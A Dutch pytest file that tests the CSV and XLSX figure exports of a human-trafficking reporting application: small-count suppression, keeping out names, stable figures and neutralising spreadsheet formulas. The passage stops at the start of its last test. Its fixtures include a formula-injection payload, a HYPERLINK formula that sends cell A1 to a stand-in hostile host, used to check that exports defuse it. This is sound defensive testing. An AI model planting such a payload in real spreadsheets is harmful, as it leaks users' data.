"""The report's figures as CSV and XLSX: contents number by number, suppression, formula
injection, no names, the access log and who may export."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import zipfile
from dataclasses import dataclass
from datetime import UTC, date, datetime

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from ketenregie.models import Actiepunt, Activiteit, Bijzonderheden, Knelpunt, Overleg
from mensenhandel.bescherming import AANVULLEND, KLEIN, Cel, beschermd
from mensenhandel.cijfers import Gemeentetelling, Telling
from mensenhandel.models import ToegangsLog
from mensenhandel.periode import Periode
from rapportage import export, inhoud, opslag
from rapportage import tabellen as tabellen_model
from rapportage.export import bouwstenen, onderdelen
from rapportage.export.bouwstenen import Uitleg, cijfertabel, overzicht
from rapportage.models import Rapport, Status
from tests.beveiligd import lijst_past, past
from tests.conftest import maak_gebruiker
from tests.rapportage.hulp import aanvragen, klaar_maken, met_de_taak_maken
from tests.signalen.factories import SignaalFactory
from tests.zorgcoordinatie.factories import TrajectFactory

pytestmark = pytest.mark.django_db

NAAM_SLACHTOFFER = "Anna Voorbeeldig"
NAAM_INBRENGER = "Jan Inbrenger"
NAAM_EIGENAAR = "Piet Actiehouder"
KNELPUNT_TITEL = '=HYPERLINK("https://kwaad.example/?"&A1;"Klik")'
ACTIE = "@SUM(1+1) bespreken met het COA"
BIJZONDERHEDEN = "-2 meldingen minder dan verwacht.\n+31 20 ... is het nummer van de regio."
VERBORGEN = (987_654, 123_457, 555_551)  # true values of hidden cells in the crafted tables
# What the task passes when it writes the files beside the PDF.
MAAKMOMENT = {"nu": datetime(2026, 7, 1, 6, 0, tzinfo=UTC), "pdf_sha256": "ab" * 32}


def url(naam: str, rapport: Rapport) -> str:
    return reverse(f"rapportage:{naam}", kwargs={"uuid": rapport.uuid})


def _halfjaar_soort(halfjaar: Periode) -> str:
    return "eerste_halfjaar" if halfjaar.helft == 1 else "tweede_halfjaar"


@pytest.fixture
def gegevens(gebruikers, plaatsen):
    """Gooi en Vechtstreek in the current half-year: 3 signals in Hilversum (one about a minor,
    one about sexual exploitation, one naming a victim), 7 in Huizen; 2 trajectories, one
    closed; a training in Hilversum; one open knelpunt with an action, one solved; the
    half-year's bijzonderheden. Texts that start like a formula."""
    halfjaar = Periode.halfjaar_van(timezone.localdate())
    kr, gv, dag = gebruikers["kr"], plaatsen["gv"], timezone.localdate()
    af_huizen = maak_gebruiker("af.huizen@test.example", gebruikers["af"].rol, gemeenten=[plaatsen["huizen"]])
    SignaalFactory(
        door=gebruikers["af"], minderjarig=True, personen=[{"soort": "slachtoffer", "naam": NAAM_SLACHTOFFER}]
    )
    SignaalFactory(door=gebruikers["af"], seksueel=True)
    SignaalFactory(door=gebruikers["af"])
    for _ in range(7):
        SignaalFactory(door=af_huizen)
    TrajectFactory(door=gebruikers["zc"])
    TrajectFactory(door=gebruikers["zc"], afgesloten=True)
    training = Activiteit.objects.create(
        regio=gv,
        soort="training",
        titel="Training signaleren",
        datum=dag,
        doelgroepen=["jongeren"],
        deelnemers=12,
        organisator="CoMensha",
        vastgelegd_door=kr,
    )
    training.gemeenten.set([plaatsen["hilversum"]])
    Overleg.objects.create(regio=gv, soort="regietafel", datum=dag, vastgelegd_door=kr)
    Bijzonderheden.objects.create(
        regio=gv, jaar=halfjaar.van.year, helft=halfjaar.helft, tekst=BIJZONDERHEDEN, bijgewerkt_door=kr
    )
    knelpunt = Knelpunt.objects.create(
        regio=gv,
        thema="opvang",
        titel=KNELPUNT_TITEL,
        omschrijving="Voor mannelijke slachtoffers is er in de regio geen opvang.",
        ingebracht_door=NAAM_INBRENGER,
        datum=dag,
        vastgelegd_door=kr,
    )
    Actiepunt.objects.create(
        knelpunt=knelpunt, omschrijving=ACTIE, eigenaar=NAAM_EIGENAAR, deadline=date(dag.year + 1, 1, 31)
    )
    Knelpunt.objects.create(
        regio=gv,
        thema="overig",
        titel="Al opgelost knelpunt",
        omschrijving="Is klaar.",
        ingebracht_door="Gemeente",
        datum=dag,
        status="opgelost",
        vastgelegd_door=kr,
    )
    return {"halfjaar": halfjaar}


@pytest.fixture
def rapport(gebruikers, gegevens, monkeypatch) -> Rapport:
    """The half-year's report, made by the task: its figures are the files stored with it."""
    halfjaar = gegevens["halfjaar"]
    gevraagd = aanvragen(gebruikers["kr"], soort=_halfjaar_soort(halfjaar), jaar=halfjaar.van.year)
    return met_de_taak_maken(gevraagd, monkeypatch)


# --- Reading the files back -----------------------------------------------------------------------


def csv_lezen(inhoud_bestand: bytes) -> tuple[dict[str, str], dict[str, list[list[str]]]]:
    """(the explanation as {label: value}, {table title: [header, row, …, note, …]})."""
    assert inhoud_bestand.startswith(b"\xef\xbb\xbf")
    regels = list(csv.reader(io.StringIO(inhoud_bestand.decode("utf-8-sig")), delimiter=";"))
    assert regels[0] == [export.TITEL]
    blokken: list[list[list[str]]] = [[]]
    for regel in regels[1:]:
        if regel == []:
            blokken.append([])
        else:
            blokken[-1].append(regel)
    uitleg = dict(blokken[0])
    return uitleg, {blok[0][0]: blok[1:] for blok in blokken[1:]}


def rijen(tabel: list[list[str]]) -> dict[str, list[str]]:
    """A table's rows by their first cell (the header and notes included)."""
    return {rij[0]: rij[1:] for rij in tabel}


def xlsx_lezen(inhoud_bestand: bytes):
    return load_workbook(io.BytesIO(inhoud_bestand))


def blad_rijen(blad) -> dict[str, list]:
    """A sheet's rows from the header on, by their first cell (values as stored)."""
    return {
        rij[0]: list(rij[1:]) for rij in blad.iter_rows(min_row=3, values_only=True) if rij[0] is not None
    }


def xml_tekst(inhoud_bestand: bytes) -> str:
    """All the XML of a workbook, to search for what must not be in it."""
    with zipfile.ZipFile(io.BytesIO(inhoud_bestand)) as archief:
        return "".join(archief.read(naam).decode("utf-8") for naam in archief.namelist())


# --- Contents, number by number -------------------------------------------------------------------


def test_csv_cijfers_een_voor_een(client_als, rapport, gegevens, plaatsen):
    antwoord = client_als("kr").get(url("export_csv", rapport))
    assert antwoord.status_code == 200
    uitleg, tabellen = csv_lezen(antwoord.getvalue())

    halfjaar = gegevens["halfjaar"]
    assert uitleg["Regio"] == "Gooi en Vechtstreek"
    assert uitleg["Periode"].startswith(f"{_halfjaar_soort(halfjaar).split('_')[0].capitalize()} halfjaar")
    assert uitleg["Versie"] == "1"
    assert "Vastgesteld" not in uitleg  # made with the PDF, before any vaststellen
    gemaakt = timezone.localtime(rapport.klaar_op)
    assert uitleg["Gemaakt op"].startswith(f"{inhoud.datum_tekst(gemaakt.date())} om ")
    assert uitleg["Gemaakt op"].endswith(", samen met de PDF")
    assert uitleg["Controlesom van de PDF (SHA-256)"] == rapport.sha256
    assert uitleg["Peildatum"] == (
        f"{inhoud.datum_tekst(timezone.localdate())} (de periode was bij het maken nog niet voorbij: "
        "een tussenstand)"
    )
    assert uitleg["Kleine aantallen"].startswith("Aantallen van 1 tot 5 staan er als ‘<5’")
    assert "het zijn de cijfers van de PDF" in uitleg["Hoe de cijfers zijn berekend"]

    samenvatting = rijen(tabellen["Samenvatting"])
    assert samenvatting["Onderwerp"][:2] == [
        "Deze periode",
        f"Periode ervoor ({halfjaar.vorige_halfjaar().label})",
    ]
    lijst_past(samenvatting["Signalen geregistreerd"][:2], ["10", "0"])
    lijst_past(samenvatting["Signalen met een minderjarige"][:2], ["1", "0"])
    lijst_past(samenvatting["Trajecten gestart"][:2], ["2", "0"])
    lijst_past(samenvatting["Trajecten afgesloten"][:2], ["1", "0"])
    lijst_past(samenvatting["Trajecten open aan het eind van de periode"][:2], ["1", "0"])
    lijst_past(samenvatting["Overleggen gehouden"][:2], ["1", "0"])

    # Protected as in the PDF: Hilversum's 3 is small; Huizen's 7 and the region's 10 carry
    # noise or are hidden.
    per_gemeente = rijen(tabellen["Signalen per gemeente"])
    assert per_gemeente["Gemeente"] == ["Signalen"]
    assert per_gemeente["Hilversum"] == ["<5"]
    lijst_past(per_gemeente["Huizen"] + per_gemeente["Regio"], ["7", "10"])
    assert any(regel.startswith("In deze tabel zijn kleine aantallen verborgen") for regel in per_gemeente)
    assert list(tabellen).count("Signalen per gemeente") == 1

    signalen = rijen(tabellen["Signalen"])
    lijst_past(signalen["Signalen geregistreerd"] + signalen["Signalen met een minderjarige"], ["10", "1"])
    vormen = rijen(tabellen["Signalen per vorm van uitbuiting"])
    assert vormen["Vorm"] == ["Aantal"]
    lijst_past(vormen["Seksuele uitbuiting"] + vormen["Arbeidsuitbuiting"], ["1", "9"])

    trajecten = rijen(tabellen["Zorgcoördinatie: trajecten"])
    lijst_past(
        [
            *trajecten["Trajecten gestart in deze periode"],
            *trajecten["Trajecten afgesloten in deze periode"],
            *trajecten["Trajecten open op de peildatum"],
        ],
        ["2", "1", "1"],
    )
    dag = timezone.localdate()
    assert trajecten["Peildatum"] == [f"{dag.day}-{dag.month}-{dag.year}"]

    activiteiten = rijen(tabellen["Activiteiten per gemeente en soort"])
    assert activiteiten["Gemeente"] == [
        "Training",
        "Voorlichting",
        "Bewustwordingscampagne",
        "Bijeenkomst",
        "Totaal",
    ]
    lijst_past(activiteiten["Regio"], ["1", "0", "0", "0", "1"])
    doelgroepen = rijen(tabellen["Activiteiten per doelgroep"])
    assert doelgroepen["Doelgroep"] == ["Activiteiten", "Deelnemers"]
    jongeren = next(v for k, v in doelgroepen.items() if k.lower().startswith("jongeren"))
    lijst_past(jongeren, ["1", "12"])

    overleggen = rijen(tabellen["Overleggen gehouden in deze periode"])
    lijst_past(overleggen["Regietafel"], ["1", "0"])
    assert overleggen["Overleg aandachtsfunctionarissen"] == ["0", ""]

    verwijzingen = rijen(tabellen["Doorverwijzingen per bestemming"])
    kop = verwijzingen["Bestemming"]
    for kolom in ("Aantal", "Met terugkoppeling", "Dagen tot terugkoppeling (mediaan)", "Wacht te lang"):
        assert kolom in kop
    assert kop[-5:] == [
        f"Terugkoppeling op het moment van maken: {t}"
        for t in ("verstuurd", "ontvangen", "opgepakt", "afgewezen", "afgerond")
    ]
    # Waiting is counted on the reference date, as in the PDF; no second "waiting" column.
    assert [k for k in kop if k.startswith("Wacht")] == ["Wacht te lang", "Wacht op de peildatum"]
    assert verwijzingen["Totaal"][kop.index("Aantal")] == "0"
    assert verwijzingen["Totaal"][kop.index("Dagen tot terugkoppeling (mediaan)")] == ""  # no feedback yet

    basisniveau = rijen(tabellen["Basisniveau per gemeente en onderdeel"])
    assert basisniveau["Hilversum"][0] == "Onbekend"
    assert basisniveau["Voldaan (van 2)"] == ["0"] * 8

    assert rijen(tabellen["Bijzonderheden"])["Halfjaar"] == ["Bijzonderheden"]
    knelpunten = tabellen["Open knelpunten"]
    assert knelpunten[0] == ["Knelpunt", "Thema", "Status", "Ingebracht op", "Omschrijving", "Acties"]
    assert len(knelpunten) == 2  # the solved one is not open
    assert knelpunten[1][1:3] == ["Opvang", "Open"] and knelpunten[1][5] == "1"
    acties = tabellen["Acties bij de open knelpunten"]
    assert acties[0] == ["Knelpunt", "Actie", "Uiterlijk op", "Status", "Wat ervan is gekomen"]
    assert acties[1][2] == f"31-1-{dag.year + 1}"


def test_csv_volgt_de_verzameling(client_als, rapport):
    """Every count of the gathering's lists appears as is, whatever the crafted dataset holds."""
    c = inhoud.verzamelen(rapport, vandaag=timezone.localdate())
    _, tabellen = csv_lezen(client_als("kr").get(url("export_csv", rapport)).getvalue())
    for titel, tellingen in [
        ("Signalen per vorm van uitbuiting", c["signalen"].per_vorm),
        ("Signalen per bron", c["signalen"].per_bron),
        ("Signalen per sector", c["signalen"].per_sector),
        ("Signalen per maand", c["signalen"].per_maand),
        ("Open trajecten per fase op de peildatum", c["trajecten"].per_fase),
        ("Afgesloten trajecten per reden van afsluiten", c["trajecten"].per_afsluitreden),
    ]:
        gevonden = rijen(tabellen[titel])
        for t in tellingen:
            assert gevonden[t.label] == [str(t.aantal)], (titel, t.label)
    trend = rijen(tabellen["Signalen, doorverwijzingen en trajecten per halfjaar"])
    kop = trend["Halfjaar"]
    for label, veld in [
        ("Signalen", "signalen"),
        ("Doorverwijzingen", "verwijzingen"),
        ("Trajecten gestart", "trajecten_geopend"),
        ("Trajecten afgesloten", "trajecten_afgesloten"),
    ]:
        for r in c["trend"]:
            assert trend[r.periode][kop.index(label)] == str(getattr(r, veld)), (r.periode, label)
    samenvatting = rijen(tabellen["Samenvatting"])
    for k in c["samenvatting"]:
        assert [_getal(v) for v in samenvatting[k.label][:2]] == [_gedrukt(k.waarde), _gedrukt(k.vorige)], (
            k.label
        )


def _gedrukt(waarde: object) -> object:
    """What the CSV writes for a figure of the gathering: a protected count's printed number."""
    return (waarde.getal if waarde.getal is not None else waarde.tekst) if isinstance(waarde, Cel) else waarde


def _getal(tekst: str) -> int | float | str | None:
    """A number as the CSV writes it (decimal comma; empty for none)."""
    if tekst == "":
        return None
    if not tekst[:1].isdigit():
        return tekst  # a hidden count: "<5" or "x"
    return float(tekst.replace(",", ".")) if "," in tekst else int(tekst)


def test_xlsx_bladen_getallen_en_opmaak(client_als, rapport):
    antwoord = client_als("kr").get(url("export_xlsx", rapport))
    assert antwoord.status_code == 200
    boek = xlsx_lezen(antwoord.getvalue())

    assert boek.sheetnames[0] == "Toelichting"
    assert all(len(naam) <= 31 for naam in boek.sheetnames)
    assert len(set(boek.sheetnames)) == len(boek.sheetnames)
    assert boek.properties.language == "nl-NL"
    uitleg = {r[0]: r[1] for r in boek["Toelichting"].iter_rows(min_row=3, values_only=True) if r[0]}
    assert uitleg["Regio"] == "Gooi en Vechtstreek"
    assert uitleg["Versie"] == 1
    assert uitleg["Kleine aantallen"].startswith("Aantallen van 1 tot 5")
    assert uitleg["Controlesom van de PDF (SHA-256)"] == rapport.sha256
    # The list of tables links to each sheet.
    links = [c.hyperlink.location for c in boek["Toelichting"]["B"] if c.hyperlink]
    assert len(links) == len(boek.sheetnames) - 1
    assert "'Signalen per gemeente'!A1" in links

    blad = boek["Signalen per gemeente"]
    assert blad["A1"].value == "Signalen per gemeente" and blad["A1"].font.b
    assert [c.value for c in blad[3]] == ["Gemeente", "Signalen"]
    assert all(c.font.b for c in blad[3])
    waarden = blad_rijen(blad)
    assert waarden["Hilversum"] == ["<5"]
    lijst_past([str(waarden["Huizen"][0])], ["7"])
    assert blad["B4"].data_type == "s"
    totaal = blad["B6"]
    assert blad["A6"].value == "Regio" and past(str(totaal.value), "10")
    assert totaal.data_type == ("s" if totaal.value in ("x", "<5") else "n")
    assert blad.freeze_panes == "B4"

    samenvatting = boek["Samenvatting"]
    regel = next(r for r in samenvatting.iter_rows(min_row=4) if r[0].value == "Signalen geregistreerd")
    assert regel[0].value == "Signalen geregistreerd" and regel[2].value == 0
    assert past(str(regel[1].value), "10")
    if isinstance(regel[1].value, int):  # shown: numbers; hidden alongside ("x"): no change
        assert regel[3].value == regel[1].value and all(c.data_type == "n" for c in regel[1:])
    else:
        assert regel[3].value is None
    assert samenvatting.auto_filter.ref.startswith("A3:D")

    trajecten = blad_rijen(boek["Trajecten"])
    assert trajecten["Trajecten gestart in deze periode"] in (["<5"], ["x"])  # 2: hidden
    assert isinstance(trajecten["Peildatum"][0], datetime)
    assert trajecten["Peildatum"][0].date() == timezone.localdate()

    knelpunten = boek["Open knelpunten"]
    assert knelpunten["D4"].number_format == "d-m-yyyy"
    assert knelpunten["F4"].value == 1 and knelpunten["F4"].data_type == "n"

    # No formula anywhere in the workbook.
    assert not any(c.data_type == "f" for b in boek.worksheets for r in b.iter_rows() for c in r)


def test_bestandsnamen_en_kopregels(client_als, rapport, gegevens):
    halfjaar = gegevens["halfjaar"]
    periode = f"{halfjaar.van:%Y-%m-%d}-tm-{halfjaar.tot:%Y-%m-%d}"
    for naam, soort, extensie in [
        ("export_csv", "text/csv; charset=utf-8", "csv"),
        ("export_xlsx", export.XLSX_TYPE, "xlsx"),
    ]:
        antwoord = client_als("kr").get(url(naam, rapport))
        assert antwoord["Content-Type"] == soort
        assert antwoord["Content-Disposition"] == (
            f'attachment; filename="rapportage-gooi-en-vechtstreek-{periode}-v1-cijfers.{extensie}"'
        )
        assert "no-store" in antwoord["Cache-Control"]
        assert antwoord["Content-Length"] == str(len(antwoord.getvalue()))


# --- Suppression, names, injection ----------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class _Proef:
    tabel: Gemeentetelling


def _geknutselde_tabellen(context: dict) -> tuple[dict, list[tabellen_model.Tabel]]:
    """The real gathering, and its tables with two crafted ones whose hidden cells have
    conspicuous values."""
    klein, aanvullend, rijtotaal = VERBORGEN
    proef = inhoud.Gemeentetabel(
        titel="Proef per gemeente",
        kolommen=["A", "B"],
        regels=[
            inhoud.Tabelregel(
                "Hilversum", [Cel(klein, "<5", KLEIN), Cel(40, "40")], Cel(rijtotaal, "x", AANVULLEND)
            ),
            inhoud.Tabelregel("Huizen", [Cel(aanvullend, "x", AANVULLEND), Cel(50, "50")], Cel(77, "77")),
        ],
        kolomtotalen=[klein + aanvullend, 90],
        totaal=klein + aanvullend + 90,
        onderdrukt=True,
        rijtotalen=True,
    )
    # A real protection: 2 is small, and the 9 next to it would give it away.
    echt = Gemeentetelling(["Een", "Twee", "Drie"], ["P", "Q"], [[2, 30], [9, 40], [20, 25]], rijtotalen=True)
    proef_cijfers = beschermd(_Proef(echt), 5, ("proef",)).tabel
    assert proef_cijfers.onderdrukt
    uitleg = Uitleg(context["onderdrukking_uitleg"], context["vorige_label"])
    alle = [
        *export.tabellen(context),
        proef.als_tabel(uitleg.onderdrukking),
        cijfertabel("Proef cijfers", proef_cijfers, uitleg),
    ]
    return {**context, "proef_cijfers": proef_cijfers}, tabellen_model.uniek_met_bladnamen(alle)


def _csv(context: dict, alle: list[tabellen_model.Tabel]) -> bytes:
    return export.csv_schrijven(export.toelichting(context, **MAAKMOMENT), alle)


def _xlsx(context: dict, alle: list[tabellen_model.Tabel]) -> bytes:
    return export.xlsx_schrijven(
        export.toelichting(context, **MAAKMOMENT), alle, titel=export.TITEL, nu=MAAKMOMENT["nu"]
    )


def test_een_verborgen_waarde_komt_nooit_in_het_bestand(rapport):
    context, alle = _geknutselde_tabellen(inhoud.verzamelen(rapport))
    verborgen_echt = {
        c.waarde
        for rij in [*context["proef_cijfers"].tabel.rijen, [*context["proef_cijfers"].tabel.rijtotalen]]
        for c in rij
        if c.verborgen
    }
    assert verborgen_echt  # the crafted table does hide something

    tekst_csv = _csv(context, alle).decode("utf-8-sig")
    _, tabellen = csv_lezen(_csv(context, alle))
    proef = rijen(tabellen["Proef per gemeente"])
    assert proef["Hilversum"] == ["<5", "40", "x"]
    assert proef["Huizen"] == ["x", "50", "77"]
    assert proef["Regio"] == [str(VERBORGEN[0] + VERBORGEN[1]), "90", str(sum(VERBORGEN[:2]) + 90)]
    assert rijen(tabellen["Proef cijfers"])["Een"][0] == "<5"

    xlsx = _xlsx(context, alle)
    xml = xml_tekst(xlsx)
    for waarde in VERBORGEN[:1] + VERBORGEN[2:]:  # the hidden values that are not part of a region total
        assert str(waarde) not in tekst_csv and str(waarde) not in xml
    assert str(VERBORGEN[1]) not in re.sub(str(VERBORGEN[0] + VERBORGEN[1]), "", tekst_csv)

    blad = xlsx_lezen(xlsx)["Proef cijfers"]
    waarden = {c.value for r in blad.iter_rows(min_row=4, max_row=6) for c in r[1:]}
    assert not (
        waarden
        & verborgen_echt
        - {c.waarde for rij in context["proef_cijfers"].tabel.rijen for c in rij if not c.verborgen}
    )
    assert "<5" in waarden  # the 2; what else is hidden or carries noise is the method's business


def test_geen_namen_in_de_bestanden(client_als, rapport):
    csv_tekst = client_als("kr").get(url("export_csv", rapport)).getvalue().decode("utf-8-sig")
    xml = xml_tekst(client_als("kr").get(url("export_xlsx", rapport)).getvalue())
    for naam in (NAAM_SLACHTOFFER, NAAM_INBRENGER, NAAM_EIGENAAR, "Al opgelost knelpunt"):
        assert naam not in csv_tekst and naam not in xml
    # The ketenregie's own texts are there.
    assert "Voor mannelijke slachtoffers is er in de regio geen opvang." in csv_tekst
    assert "mannelijke slachtoffers" in xml


def test_formules_worden_onschadelijk_gemaakt(client_als, rapport):
    _, tabellen = csv_lezen(client_als("kr").get(url("export_csv", rapport)).getvalue())
    assert tabellen["Open knelpunten"][1][0] == "'" + KNELPUNT_TITEL
    assert tabellen["Acties bij de open knelpunten"][1][:2] == ["'" + KNELPUNT_TITEL, "'" + ACTIE]
    assert tabellen["Bijzonderheden"][1][1] == "'" + BIJZONDERHEDEN

    boek = xlsx_lezen(client_als("kr").get(url("export_xlsx", rapport)).getvalue())
    titel = boek["Open knelpunten"]["A4"]
    assert titel.value == "'" + KNELPUNT_TITEL and titel.data_type == "s"
    assert boek["Bijzonderheden"]["B4"].value == "'" + BIJZONDERHEDEN


def test_stuurtekens_en_heel_lange_tekst_breken_de_xlsx_niet(rapport):
    context = inhoud.verzamelen(rapport)
    lang = "Een alinea over de aanpak. " * 1500  # longer than one cell holds
    context["bijzonderheden"] = [
        inhoud.Bijzonderhedentekst("Eerste halfjaar 2025", "Met\x0bstuurteken\x1f. " + lang)
    ]
    boek = xlsx_lezen(export.xlsx_maken(context, **MAAKMOMENT))
    waarde = boek["Bijzonderheden"]["B4"].value
    assert waarde.startswith("Metstuurteken. ") and waarde.endswith(export.INGEKORT)
    assert len(waarde) == 32_767


# --- Every part of the gathering, and nothing unknown ------------------------------------------------


def test_elk_onderdeel_van_de_verzameling_komt_in_de_export(rapport):
    """The whole gathering is written (this fails first when verzamelen gains a type the export
    does not know), and every key with figures has at least one table of its own."""
    context = inhoud.verzamelen(rapport)
    alle = export.tabellen(context)
    for sleutel, waarde in context.items():
        if sleutel in export.OVER_HET_RAPPORT:
            continue
        alleen = export.tabellen({**{k: context[k] for k in export.OVER_HET_RAPPORT}, sleutel: waarde})
        if sleutel == "grafiek":
            assert alleen == []  # charts only: their figures are tables elsewhere
            continue
        assert alleen, sleutel
        assert any(t.inhoud == a.inhoud for t in alleen for a in alle), sleutel
    assert all(isinstance(g, inhoud.Grafiek) for g in context["grafiek"].values())


@dataclass(frozen=True)
class _Nieuw:
    """A bundle of figures the export has never seen, as the figure modules might add."""

    totaal: int
    percentage: float | None
    per_soort: list[Telling]

    @property
    def helft(self) -> int:
        return self.totaal // 2


_Nieuw.__module__ = "rapportage.inhoud"


@dataclass(frozen=True)
class _NieuwPerGemeente:
    per_gemeente: list[str]


_NieuwPerGemeente.__module__ = "rapportage.inhoud"


@dataclass(frozen=True)
class _Vreemd:
    aantal: int


def test_een_nieuw_onderdeel_komt_erin_zodra_de_export_het_kent(rapport, monkeypatch):
    """A new part of the gathering is refused until it has its function in
    ``rapportage.export.onderdelen``, which says exactly which table it writes."""
    context = inhoud.verzamelen(rapport)
    context["opvang_nieuw"] = _Nieuw(7, 42.5, [Telling("a", "Soort A", 3), Telling("b", "Soort B", 4)])
    with pytest.raises(export.OnbekendOnderdeel, match="opvang_nieuw"):
        export.csv_maken(context, **MAAKMOMENT)

    def opvang_nieuw(nieuw: _Nieuw, uitleg: Uitleg) -> list[tabellen_model.Tabel]:
        return [
            overzicht(
                "Opvang nieuw",
                [("Totaal", nieuw.totaal), ("Percentage", nieuw.percentage), ("Helft", nieuw.helft)],
            ),
            bouwstenen.tellingen("Opvang nieuw – per soort", "Onderdeel", nieuw.per_soort),
        ]

    monkeypatch.setitem(onderdelen.ONDERDELEN, "opvang_nieuw", opvang_nieuw)
    _, tabellen = csv_lezen(export.csv_maken(context, **MAAKMOMENT))
    assert rijen(tabellen["Opvang nieuw"]) == {
        "Onderwerp": ["Waarde"],
        "Totaal": ["7"],
        "Percentage": ["42,5"],
        "Helft": ["3"],
    }
    assert rijen(tabellen["Opvang nieuw – per soort"]) == {
        "Onderdeel": ["Aantal"],
        "Soort A": ["3"],
        "Soort B": ["4"],
    }


@pytest.mark.parametrize(
    ("sleutel", "waarde"),
    [
        ("vreemd", _Vreemd(3)),  # a dataclass from outside the figure modules
        ("lijst_vreemd", [_Vreemd(3)]),
        ("los_getal", 12),  # a loose value: explanation or table?
        ("regio_object", object()),
        ("per_gemeente_los", _NieuwPerGemeente(["Hilversum"])),  # by gemeente but not suppressed
        ("cellen", [Cel(3, "<5", KLEIN)]),
        ("regels", [inhoud.Tabelregel("Hilversum", [Cel(3, "<5", KLEIN)], None)]),
        ("gemengd", [Telling("a", "A", 1), _Vreemd(2)]),
        ("woordenboek", {"a": 1}),
    ],
)
def test_een_onbekend_onderdeel_valt_niet_ongemerkt_weg(rapport, sleutel, waarde):
    context = inhoud.verzamelen(rapport)
    context[sleutel] = waarde
    with pytest.raises(export.OnbekendOnderdeel, match=sleutel):
        export.tabellen(context)


def test_een_nieuw_veld_van_een_tabel_komt_er_niet_ongemerkt_in(rapport):
    """The export writes the columns it names, nothing else: raw values by gemeente that a
    table might gain never reach the file."""

    @dataclass(frozen=True)
    class Gemeentetabel(inhoud.Gemeentetabel):
        ruwe_waarden: list[list[int]] | None = None

    context = inhoud.verzamelen(rapport)
    context["signalen_per_gemeente"] = Gemeentetabel(
        **{
            f: getattr(context["signalen_per_gemeente"], f) for f in inhoud.Gemeentetabel.__dataclass_fields__
        },
        ruwe_waarden=[[VERBORGEN[0]], [VERBORGEN[1]]],
    )
    tekst = export.csv_maken(context, **MAAKMOMENT).decode("utf-8-sig")
    xml = xml_tekst(export.xlsx_maken(context, **MAAKMOMENT))
    assert "Signalen per gemeente" in tekst
    for waarde in VERBORGEN[:2]:
        assert str(waarde) not in tekst and str(waarde) not in xml


def test_bladnamen_zijn_geldig_en_uniek():
    bezet = {"toelichting"}
    namen = [
        tabellen_model.bladnaam(naam, bezet)
        for naam in [
            "Zorgcoördinatie: trajecten",
            "Een heel lange titel van een tabel die niet past",
            "Een heel lange titel van een tabel die niet past",
            "Toelichting",
            "[Vraag]/antwoord*?",
        ]
    ]
    assert namen[0] == "Zorgcoördinatie trajecten"
    assert all(len(n) <= 31 for n in namen) and len({n.lower() for n in namen}) == len(namen)
    assert not any(re.search(r"[\[\]:*?/\\]", n) for n in namen)


# --- The same figures as the PDF -------------------------------------------------------------------


def test_dezelfde_cijfers_als_de_pdf(client_als, gebruikers, gegevens, monkeypatch):
    """Made by the task from the gathering the PDF was made from; a download gathers nothing."""
    gebruikt: list[dict] = []
    echt = inhoud.verzamelen

    def verzamelen(*args, **kwargs):
        gebruikt.append(echt(*args, **kwargs))
        return gebruikt[-1]

    monkeypatch.setattr(inhoud, "verzamelen", verzamelen)
    halfjaar = gegevens["halfjaar"]
    rapport = met_de_taak_maken(
        aanvragen(gebruikers["kr"], soort=_halfjaar_soort(halfjaar), jaar=halfjaar.van.year), monkeypatch
    )
    gedownload = client_als("kr").get(url("export_csv", rapport)).getvalue()
    assert len(gebruikt) == 1
    verwacht = export.csv_maken(gebruikt[0], nu=rapport.klaar_op, pdf_sha256=rapport.sha256)
    assert csv_lezen(gedownload)[1] == csv_lezen(verwacht)[1]
    assert opslag.sha256_van(gedownload) == rapport.csv_sha256


def _registratie_wijzigen(gebruikers, plaatsen, halfjaar: Periode) -> None:
    """After the report was made: more signals, a knelpunt solved and a new one, the
    bijzonderheden rewritten, a referral answered."""
    for _ in range(4):
        SignaalFactory(door=gebruikers["af"])
    Knelpunt.objects.filter(titel=KNELPUNT_TITEL).update(status="opgelost")
    Knelpunt.objects.create(
        regio=plaatsen["gv"],
        thema="overig",
        titel="Later ingebracht knelpunt",
        omschrijving="Na het maken.",
        ingebracht_door="Gemeente",
        datum=timezone.localdate(),
        vastgelegd_door=gebruikers["kr"],
    )
    Bijzonderheden.objects.filter(jaar=halfjaar.van.year, helft=halfjaar.helft).update(
        tekst="Herschreven na het maken."
    )


@pytest.mark.parametrize("naam", ["export_csv", "export_xlsx"])
def test_de_cijfers_veranderen_niet_meer_na_het_maken(
    client_als, rapport, gebruikers, plaatsen, gegevens, naam
):
    """The files are the PDF's figures, whatever changes in the registration afterwards."""
    client = client_als("kr")
    eerst = client.get(url(naam, rapport)).getvalue()
    _registratie_wijzigen(gebruikers, plaatsen, gegevens["halfjaar"])
    daarna = client.get(url(naam, rapport)).getvalue()
    assert daarna == eerst
    assert opslag.sha256_van(daarna) == getattr(rapport, f"{naam.removeprefix('export_')}_sha256")


def test_na_een_wijziging_heeft_alleen_een_nieuwe_versie_de_nieuwe_cijfers(
    client_als, rapport, gebruikers, plaatsen, gegevens, monkeypatch
):
    """The test above can fail: the same changes do show in a version made after them."""
    _registratie_wijzigen(gebruikers, plaatsen, gegevens["halfjaar"])
    halfjaar = gegevens["halfjaar"]
    nieuw = met_de_taak_maken(
        aanvragen(gebruikers["kr"], soort=_halfjaar_soort(halfjaar), jaar=halfjaar.van.year), monkeypatch
    )
    client = client_als("kr")
    _, oud = csv_lezen(client.get(url("export_csv", rapport)).getvalue())
    _, later = csv_lezen(client.get(url("export_csv", nieuw)).getvalue())
    lijst_past(rijen(oud["Signalen"])["Signalen geregistreerd"], ["10"])
    lijst_past(rijen(later["Signalen"])["Signalen geregistreerd"], ["14"])
    assert [r[0] for r in oud["Open knelpunten"][1:]] == ["'" + KNELPUNT_TITEL]
    assert [r[0] for r in later["Open knelpunten"][1:]] == ["Later ingebracht knelpunt"]
    assert oud["Bijzonderheden"][1][1] == "'" + BIJZONDERHEDEN
    assert later["Bijzonderheden"][1][1] == "Herschreven na het maken."


def test_een_voorbije_periode_heeft_haar_einde_als_peildatum(client_als, gebruikers, monkeypatch):
    rapport = met_de_taak_maken(aanvragen(gebruikers["kr"], soort="eerste_halfjaar", jaar=2025), monkeypatch)
    uitleg, tabellen = csv_lezen(client_als("kr").get(url("export_csv", rapport)).getvalue())
    assert uitleg["Peildatum"] == "30 juni 2025"
    assert rijen(tabellen["Zorgcoördinatie: trajecten"])["Peildatum"] == ["30-6-2025"]


def test_vastgesteld_in_de_bestandsnaam_en_het_bestand_blijft_gelijk(client_als, rapport, gebruikers):
